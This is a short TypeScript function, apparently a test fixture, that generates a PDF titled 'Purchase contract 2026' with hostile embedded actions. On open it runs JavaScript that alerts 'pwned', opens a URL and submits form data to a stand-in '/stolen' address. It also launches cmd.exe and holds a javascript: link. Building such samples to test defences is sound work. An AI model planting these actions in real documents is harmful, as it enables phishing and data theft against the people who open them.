/** A one-page PDF that wants to run a script, open a page and start a program when it is opened. */
export function scriptedPdf(): Uint8Array {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 6 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Annots [7 0 R] /AA << /O 4 0 R >> >>',
    '<< /S /JavaScript /JS (app.alert\\("pwned"\\); app.launchURL\\("http://127.0.0.1:9/stolen"\\); this.submitForm\\("http://127.0.0.1:9/stolen"\\)) >>',
    '<< /S /Launch /F (cmd.exe) >>',
    '<< /Length 56 >>\nstream\nBT /F1 24 Tf 20 200 Td (Purchase contract 2026) Tj ET   \nendstream',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
  ]
  let text = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = String(text.length).padStart(10, '0')
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${place} 00000 n \n`
  })
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`
  return new TextEncoder().encode(
    `${text}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  )
}
